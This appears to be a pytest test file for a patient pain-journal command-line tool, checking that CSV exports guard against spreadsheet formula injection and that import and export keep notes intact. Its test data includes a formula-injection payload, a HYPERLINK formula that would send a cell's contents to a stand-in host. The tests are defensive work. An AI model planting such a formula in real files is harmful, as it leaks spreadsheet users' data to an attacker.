"""The spreadsheet formula guard: CSV carries it (unless --no-formula-guard), the other
export formats never do. Through the real command line (the ``cli`` fixture).
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from pjtest import ok, refused

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+1 better", "-2", "@SUM(A1)",
           "'quoted start", "'=not a formula"]
ROWS = [  # one reading a line, as a study's import file has them
    {"patient": "p001", "date": "2025-03-01", "time": "08:00", "utc_offset": "+01:00",
     "pain": 3, "worst": 7, "least": 2, "average": 4, "sleep": 6.5, "mood": 5,
     "questions": ["Is it the pump?", "two\nlines"], "note": HOSTILE[0],
     "logged_at": "2025-03-01T08:01:00+01:00"},
    {"patient": "p001", "date": "2025-03-01", "time": "12:30", "utc_offset": "+01:00",
     "pain": 6, "symptoms": ["fever", "leg-numbness"], "worse": ["headache"],
     "temperature": "100.8F", "temperature_site": "not-sure", "contacted": True,
     "logged_at": "2025-03-01T12:31:00+01:00"},
    {"patient": "p001", "date": "2025-03-01", "pain": 2, "note": HOSTILE[1]},  # no time
    {"patient": "p001", "date": "2025-03-02", "time": "21:15", "utc_offset": "-05:00",
     "pain": 5, "boluses": 3, "contacted": False, "note": HOSTILE[4],
     "logged_at": "2025-03-04T09:00:00-05:00"},  # filled in later
    {"patient": "p002", "date": "2025-03-01", "pain": 0, "worst": 1, "least": 0,
     "average": 0, "note": HOSTILE[2], "temperature": "37.2", "temperature_site": "mouth"},
    {"patient": "p002", "date": "2025-03-05", "time": "07:05", "pain": 10, "note": HOSTILE[3],
     "symptoms": ["headache"]},
    {"patient": "007", "date": "2025-03-02", "pain": 4, "note": HOSTILE[5]},
]

@pytest.fixture
def study(cli, tmp_path):
    """A journal holding ROWS (three people, several readings a day, awkward text)."""
    source = tmp_path / "rows.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in ROWS), encoding="utf-8")
    ok(cli("import", str(source)))
    return tmp_path


# The formula guard: CSV only -------------------------------------------------------------


def exported_notes(cli, study, fmt: str, *options: str) -> list[str]:
    """The notes of an export as a reader of that format gets them, oldest first."""
    text = ok(cli("export", "--format", fmt, *options)).stdout
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
    elif fmt == "json":
        rows = json.loads(text)
    else:
        rows = [json.loads(line) for line in text.splitlines()]
    return [r["note"] for r in rows if r["note"]]


@pytest.mark.parametrize("fmt, options, guarded", [
    ("csv", [], True), ("csv", ["--no-formula-guard"], False), ("jsonl", [], False),
    ("json", [], False)])
def test_only_csv_carries_the_spreadsheet_formula_guard(cli, study, fmt, options, guarded):
    notes = exported_notes(cli, study, fmt, *options)
    stored = [r["note"] for r in sorted(ROWS, key=lambda r: (r["patient"], r["date"],
                                                              r.get("time") or ""))
              if r.get("note")]
    assert notes == (["'" + n for n in stored] if guarded else stored)


def test_an_unguarded_csv_imports_back_but_a_note_opening_like_the_guard_loses_its_quote(
        cli, study, tmp_path):
    """Import takes a leading ' off a cell that begins like a guarded formula ('= '+ '- '@
    ''), so an unguarded CSV comes back whole except a note written as "'=not a formula",
    which comes back as "=not a formula" (the README says so)."""
    text = ok(cli("export", "--format", "csv", "--no-formula-guard")).stdout
    other = tmp_path / "other" / "journal.json"
    ok(cli("--journal", str(other), "import", "-", "--format", "csv", input=text))
    back = exported_notes(cli, study, "jsonl", "--journal", str(other))
    assert back == [n[1:] if n == "'=not a formula" else n
                    for n in exported_notes(cli, study, "jsonl")]


@pytest.mark.parametrize("fmt", ["jsonl", "json", "fhir"])
def test_no_formula_guard_is_a_csv_option(cli, study, fmt):
    line = refused(cli("export", "--format", fmt, "--output", str(study / "x"),
                       "--no-formula-guard"))
    assert "--no-formula-guard goes with --format csv" in line
